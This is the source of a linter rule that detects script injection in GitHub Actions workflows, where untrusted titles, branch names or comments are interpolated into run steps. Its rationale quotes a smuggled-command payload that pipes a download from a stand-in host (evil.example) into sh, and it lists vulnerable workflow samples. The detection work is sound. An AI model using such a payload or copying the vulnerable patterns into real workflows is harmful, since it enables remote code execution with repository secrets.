import { defineRule } from "../../rule/define-rule.ts";
import { scriptExpressions } from "./script-expressions.ts";
import { variableFix } from "./variable-fix.ts";

/**
 * What strangers write is never filled into a script.
 *
 * Basis: GitHub's "Script injections" and GitHub Security Lab's list of untrusted input.
 */
export const templateInjection = defineRule({
  id: "workflows/template-injection",
  phase: "repository",
  select: { step: ["run", "uses"] },
  meta: {
    severity: "critical",
    since: "0.2.0",
    fix: "unsafe",
    messages: {
      direct: "The script holds {{source}}, which anyone can write: what they write is run.",
      passed: "The script holds {{read}}, which comes from {{source}}, which anyone can write: what they write is run.",
    },
    docs: {
      summary: "No script is filled with what strangers write.",
      rationale:
        'GitHub fills in ${{ }} before the shell reads the script, so a title like `a"; curl evil.example | sh; "` becomes a part of the script and runs with the job\'s token and secrets. ' +
        "Titles, bodies, names of branches and commit messages are followed through variables, matrices, inputs and outputs of local actions and workflows. " +
        "A shell that reads the same text from a variable takes it for a text. " +
        "What is only compared (`github.head_ref == 'main'`) does not reach the script and is not reported.",
      bad: [
        'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "New ${{ github.event.issue.title }}"\n',
        "on: pull_request_target\njobs:\n  title:\n    runs-on: ubuntu-latest\n    env:\n      BRANCH: ${{ github.head_ref }}\n    steps:\n      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\n        with:\n          script: console.log('${{ env.BRANCH }}')\n",
        ".github/workflows/comment.yml: |\n  on: issue_comment\n  jobs:\n    say:\n      runs-on: ubuntu-latest\n      steps:\n        - uses: ./.github/actions/say\n          with: { text: '${{ github.event.comment.body }}' }\n.github/actions/say/action.yml: |\n  name: say\n  inputs: { text: { required: true } }\n  runs:\n    using: composite\n    steps:\n      - run: echo '${{ inputs.text }}'\n        shell: bash\n",
      ],
      good: [
        'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "New $TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
        "on: pull_request\njobs:\n  main:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.head_ref == 'main' && 'main' || 'other' }} ${{ github.event.number }}\n",
      ],
    },
  },
  check(step, context) {
    if (step.kind === "other") return;
    for (const { place, path, found, index, interpolation } of scriptExpressions(step)) {
      if (found?.trust !== "untrusted") continue;
      const { source, via, read } = found;
      const isDirect = via.length === 0;
      const at = [place, ...via.map((one) => ({ ...one, note: "passed on here" }))];
      const common = {
        at,
        path: [...path, String(index)],
        suggestions: [advice(path)],
        fix: variableFix(step, interpolation, found.names),
      };
      if (isDirect) context.report({ messageId: "direct", data: { source }, ...common });
      else context.report({ messageId: "passed", data: { source, read }, ...common });
    }
  },
});

function advice(path: readonly string[]): string {
  return path[0] === "run"
    ? 'Set a variable to it in the step\'s `env`, and read the variable in the script: `"$TITLE"`, in PowerShell `$env:TITLE`.'
    : "Set a variable to it in the step's `env`, and read that in the script: `process.env.TITLE`.";
}
